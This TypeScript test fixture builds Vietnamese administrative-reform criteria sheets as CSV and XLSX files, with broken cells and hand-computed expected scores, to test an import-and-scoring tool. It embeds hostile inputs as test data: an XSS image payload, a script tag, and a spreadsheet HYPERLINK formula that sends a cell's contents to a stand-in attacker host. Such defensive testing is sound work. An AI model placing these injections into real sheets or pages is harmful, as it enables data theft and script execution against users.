// Small criteria sheets as Google Sheets would export them, with hostile text and broken cells, written as
// CSV and as XLSX (exceljs). The expected figures follow from the rule language of design.md by hand.
import ExcelJS from 'exceljs';
import { writeFileSync } from 'node:fs';

export const HOSTILE_TITLE = '<img src=x onerror=alert(1)>';
export const HOSTILE_SECTOR = '<script>alert("ngành")</script>';
export const HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")';

/** Header text as written in the fixture (not the default): the summary must quote it as is. */
export const ACTUAL_HEADER = 'Kết quả thực hiện';

/**
 * Row 1 title, row 2 header, data from row 3. Leaves and their points:
 *   1.1 CÓ/KHÔNG max 2, "Có"                          → 2
 *   1.2 MỨC(100%: 1; 80%: 0,5) max 1, 85%            → 0,5
 *   1.3 ĐẾM(0,25) max 1, "abc"                        → error (row 6)
 *   1.4 TỶ LỆ max 1,5, target 50%, 40%                → 1,2
 *   2.1 HẠN(50%) max 1, deadline 31/01/2024, done 15/02/2024 → 0,5 (late)
 *   2.2 TRỪ(0,5) max 1, "#N/A"                        → error (row 10)
 *   2.3 KHẢO SÁT max 1, "Không áp dụng"               → not applicable
 * Total 4,2; area 1 = 3,7; area 2 = 0,5.
 */
export const CSV_ROWS: string[][] = [
  ['BỘ CHỈ SỐ CCHC XÃ THỬ NGHIỆM – xuất từ Google Sheets'],
  [
    'Mã',
    'Tiêu chí',
    'Điểm tối đa',
    'Cách chấm',
    'Chỉ tiêu',
    ACTUAL_HEADER,
    'Minh chứng',
    'Ngành',
    'Cột thêm của xã',
  ],
  ['1', 'Lĩnh vực một', '5,5', '', '', '', '', 'VP-TK', ''],
  ['1.1', HOSTILE_TITLE, '2', 'CÓ/KHÔNG', '', 'Có', HOSTILE_FORMULA, HOSTILE_SECTOR, 'giữ nguyên'],
  [
    '1.2',
    'Tỷ lệ, "đúng hạn"\nxuống dòng',
    '1',
    'MỨC(100%: 1; 80%: 0,5)',
    '100%',
    '85%',
    'BC 12',
    'VP-TK',
    '',
  ],
  ['1.3', 'Đếm tin bài', '1', 'ĐẾM(0,25)', '', 'abc', '', 'VH-XH', ''],
  ['1.4', 'Nộp trực tuyến', '1,5', 'TỶ LỆ', '50%', '40%', 'Thống kê', 'BPMC', ''],
  ['2', 'Lĩnh vực hai', '3', '', '', '', '', 'TP-HT', ''],
  ['2.1', 'Ban hành KH', '1', 'HẠN(50%)', '31/01/2024', '15/02/2024', 'QĐ 5', 'TP-HT', ''],
  ['2.2', 'Vi phạm', '1', 'TRỪ(0,5)', '0', '#N/A', '', 'TP-HT', ''],
  ['2.3', 'Khảo sát', '1', 'KHẢO SÁT', '', 'Không áp dụng', '', 'TP-HT', ''],
];

export const EXPECTED = {
  total: 4.2,
  areas: { '1': 3.7, '2': 0.5 },
  errorRows: [6, 10],
};

function csvField(v: string): string {
  return /[",\n\r]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

export function writeCsv(file: string, rows: string[][] = CSV_ROWS): void {
  // Google Sheets exports UTF-8 with "," and CRLF-free lines; a BOM is added by some tools: keep one here.
  writeFileSync(file, '\uFEFF' + rows.map((r) => r.map(csvField).join(',')).join('\n') + '\n');
}

/**
 * The same sheet as an XLSX export: typed cells (numbers, percentages as fractions with "0%", dates), a
 * rich-text title merged across, a formula with a cached result, an error cell; a notes tab comes first so
 * the demo must pick the criteria tab.
 */
export async function writeXlsx(file: string): Promise<void> {
  const wb = new ExcelJS.Workbook();
  const notes = wb.addWorksheet('Ghi chú');
  notes.addRow(['Trang này không có bảng tiêu chí', HOSTILE_TITLE]);
  const ws = wb.addWorksheet('Tiêu chí');
  ws.getCell('A1').value = {
    richText: [{ text: 'BỘ CHỈ SỐ CCHC ', font: { bold: true } }, { text: 'XÃ THỬ NGHIỆM' }],
  };
  ws.mergeCells('A1:H1');
  ws.addRow(CSV_ROWS[1]);
  const pct = (x: number) => x;
  const date = (y: number, m: number, d: number) => new Date(Date.UTC(y, m - 1, d));
  const rows: unknown[][] = [
    ['1', 'Lĩnh vực một', 5.5, '', '', '', '', 'VP-TK', ''],
    ['1.1', HOSTILE_TITLE, 2, 'CÓ/KHÔNG', '', 'Có', HOSTILE_FORMULA, HOSTILE_SECTOR, 'giữ nguyên'],
    [
      '1.2',
      'Tỷ lệ, "đúng hạn"\nxuống dòng',
      1,
      'MỨC(100%: 1; 80%: 0,5)',
      pct(1),
      { formula: 'F7*2+0.05', result: 0.85 },
      'BC 12',
      'VP-TK',
      '',
    ],
    ['1.3', 'Đếm tin bài', 1, 'ĐẾM(0,25)', '', 'abc', '', 'VH-XH', ''],
    ['1.4', 'Nộp trực tuyến', 1.5, 'TỶ LỆ', pct(0.5), pct(0.4), 'Thống kê', 'BPMC', ''],
    ['2', 'Lĩnh vực hai', 3, '', '', '', '', 'TP-HT', ''],
    ['2.1', 'Ban hành KH', 1, 'HẠN(50%)', date(2024, 1, 31), date(2024, 2, 15), 'QĐ 5', 'TP-HT', ''],
    ['2.2', 'Vi phạm', 1, 'TRỪ(0,5)', 0, { error: '#N/A' }, '', 'TP-HT', ''],
    [
      '2.3',
      'Khảo sát',
      1,
      'KHẢO SÁT',
      '',
      { richText: [{ text: 'Không ' }, { text: 'áp dụng', font: { italic: true } }] },
      '',
      'TP-HT',
      '',
    ],
  ];
  for (const r of rows) ws.addRow(r);
  for (const a1 of ['E5', 'F5', 'E7', 'F7']) ws.getCell(a1).numFmt = '0%';
  for (const a1 of ['E9', 'F9']) ws.getCell(a1).numFmt = 'dd/mm/yyyy';
  ws.views = [{ state: 'frozen', ySplit: 2 }];
  ws.getColumn(2).width = 40;
  await wb.xlsx.writeFile(file);
}
